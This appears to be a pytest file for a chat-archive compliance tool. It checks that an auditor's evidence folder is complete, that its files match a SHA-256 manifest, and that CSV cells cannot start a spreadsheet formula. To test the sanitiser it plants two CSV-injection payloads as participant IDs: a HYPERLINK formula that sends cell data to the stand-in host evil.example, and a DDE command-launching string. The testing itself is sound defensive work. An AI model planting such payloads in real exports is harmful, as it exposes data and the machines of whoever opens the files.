"""icechat evidence: the auditor's folder for a day, every file in its SHA-256 manifest,
and CSV cells that can never run as a spreadsheet formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import hashlib
from pathlib import Path

import pytest
import sqlalchemy as sa

from icechat.exceptions import EvidenceError
from icechat.graph.client import GraphClient
from icechat.mapping.graph_directory import GraphDirectory
from icechat.mapping.rules import Resolver
from icechat.verify import VerifyJob, verify_day
from icechat.verify.evidence import LEDGER_FIELDS, export_evidence, safe_cell
from icechat.workdir import verify_work_dir
from tests.support.archived_day import DAY, FIRM, ArchivedDay, archive, busiest, sample_parts
from tests.support.graph_import_helpers import emulator_settings

EVIL_SENDER = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
EVIL_RECIPIENT = "@SUM(1+1)*cmd|' /C calc'!A0"


def hostile_part(site: Path, insider: str) -> Path:
    """A third part whose participants chose formula-like ImIds; the sender is an insider."""
    path = site / f"{FIRM}_ICECHAT_20261126_03.xml"
    path.write_text(
        '<?xml version="1.0" encoding="UTF-8"?>'
        f'<FileDump FirmCode="{FIRM}" ExportDate="2026-11-26" SchemaVersion="1.0">'
        "<Conversation><RoomID>R-EVIL</RoomID><RoomType>PersistentChat</RoomType>"
        "<StartTimeUTC>2026-11-26T00:00:00Z</StartTimeUTC>"
        "<Message><MessageID>-M-EVIL-1</MessageID>"
        "<DateTimeUTC>2026-11-26T10:00:00Z</DateTimeUTC>"
        f"<Sender><ImId>{EVIL_SENDER.replace('&', '&amp;').replace('<', '&lt;')}</ImId>"
        f"<SenderEmail>{insider}</SenderEmail></Sender>"
        f"<Recipient><ImId>{EVIL_RECIPIENT}</ImId></Recipient>"
        "<Content>+1 to that</Content></Message>"
        "</Conversation></FileDump>",
        encoding="utf-8",
    )
    return path


@pytest.fixture
def verified(graph_emulator, tmp_path) -> ArchivedDay:
    parts = sample_parts(tmp_path)
    insider = busiest(parts, FIRM, 1)[0]
    day = archive(graph_emulator, tmp_path, parts=[*parts, hostile_part(parts[0].parent, insider)])
    with GraphClient(emulator_settings(graph_emulator)) as client, day.ledger() as ledger:
        outcome = verify_day(
            VerifyJob(day.day, day.data_dir), ledger=ledger, client=client, pgp_key=None
        )
    assert outcome.verified, outcome.report["findings"][:3]
    return day


def export(graph_emulator, day: ArchivedDay, out: Path, *, directory: bool = True):
    with GraphClient(emulator_settings(graph_emulator)) as client, day.ledger() as ledger:
        return export_evidence(
            VerifyJob(day.day, day.data_dir),
            ledger,
            out,
            pgp_key=None,
            resolver=Resolver(None, GraphDirectory(client)) if directory else None,
        )


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def test_the_evidence_folder_holds_every_record_with_a_manifest(graph_emulator, verified, tmp_path):
    out = tmp_path / "evidence"
    evidence = export(graph_emulator, verified, out)
    names = sorted(p.name for p in out.iterdir())
    assert names == sorted(
        [
            f"{DAY}.json",
            f"{DAY}.html",
            f"verify-{DAY}.json",
            f"verify-{DAY}.html",
            f"ledger-{DAY}.csv",
            f"originals-{DAY}.csv",
            "README.txt",
            "SHA256SUMS",
        ]
    )
    manifest = dict(
        reversed(line.split("  ", 1)) for line in (out / "SHA256SUMS").read_text().splitlines()
    )
    assert set(manifest) == set(names) - {"SHA256SUMS"}
    for name, digest in manifest.items():
        assert hashlib.sha256((out / name).read_bytes()).hexdigest() == digest
    with verified.ledger() as ledger:
        rows = list(ledger.copies(DAY))
    ledger_csv = read_csv(out / f"ledger-{DAY}.csv")
    assert list(ledger_csv[0]) == list(LEDGER_FIELDS)
    assert len(ledger_csv) == len(rows) == evidence.ledger_rows
    assert all(r["chat_message_id"] for r in ledger_csv)
    assert all(r["participant_imid"] for r in ledger_csv)
    mapped = [r for r in ledger_csv if r["state"] == "done"]
    assert {r["mailbox"] for r in mapped} == set(verified.mailboxes)
    assert all(r["graph_id"] and r["run"] and r["created_at"] for r in mapped)
    assert {r["attempt"] for r in ledger_csv} == {""}
    originals = read_csv(out / f"originals-{DAY}.csv")
    assert [(o["name"], o["sha256"]) for o in originals] == [
        (f["name"], f["sha256"]) for f in verified.report["files"]
    ]
    assert {o["sha256_now"] == o["sha256"] for o in originals} == {True}
    assert not verify_work_dir(verified.data_dir, DAY).joinpath("plain").exists()


def test_no_csv_cell_starts_a_formula(graph_emulator, verified, tmp_path):
    out = tmp_path / "evidence"
    export(graph_emulator, verified, out)
    rows = read_csv(out / f"ledger-{DAY}.csv")
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    evil = [r for r in rows if r["chat_message_id"] == "'-M-EVIL-1"]
    assert {r["participant_imid"] for r in evil} == {"'" + EVIL_SENDER, "'" + EVIL_RECIPIENT}
    not_mapped = next(r for r in evil if r["state"] == "not_mapped")
    assert not_mapped["mailbox"] == "" and not_mapped["reason"] == "no_address"


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("jdoe1", "jdoe1"),
        ("a=b", "a=b"),
        (None, ""),
        (12, "12"),
    ],
)
def test_safe_cell(value, shown):
    assert safe_cell(value) == shown


def test_evidence_needs_a_verification_and_a_fresh_folder(graph_emulator, verified, tmp_path):
    used = tmp_path / "used"
    used.mkdir()
    (used / "notes.txt").write_text("mine")
    with pytest.raises(EvidenceError, match="is not empty: give a new folder"):
        export(graph_emulator, verified, used)
    (verified.data_dir / "reports" / f"verify-{DAY}.json").unlink()
    with pytest.raises(EvidenceError, match=f"run `icechat verify {DAY}` first"):
        export(graph_emulator, verified, tmp_path / "fresh")


def participants(out: Path) -> dict[tuple[str, str], str]:
    rows = read_csv(out / f"ledger-{DAY}.csv")
    return {(r["mailbox_id"], r["item_key"]): r["participant_imid"] for r in rows}


def test_participants_are_the_routes_the_day_recorded_not_todays_mapping(
    graph_emulator, verified, tmp_path
):
    recorded = participants(export(graph_emulator, verified, tmp_path / "a").folder)
    # Without any mapping or directory now, the ledger still names each copy's participant.
    alone = export(graph_emulator, verified, tmp_path / "b", directory=False)
    assert participants(alone.folder) == recorded and all(recorded.values())
    assert "as the day's mapping recorded it" in (alone.folder / "README.txt").read_text()

    with verified.ledger() as ledger, ledger.engine.begin() as conn:
        conn.execute(sa.text("DELETE FROM icechat_routes"))  # a day archived before routes
    old = export(graph_emulator, verified, tmp_path / "c")
    assert participants(old.folder) == recorded
    assert "mapping rule as it stands at export" in (old.folder / "README.txt").read_text()
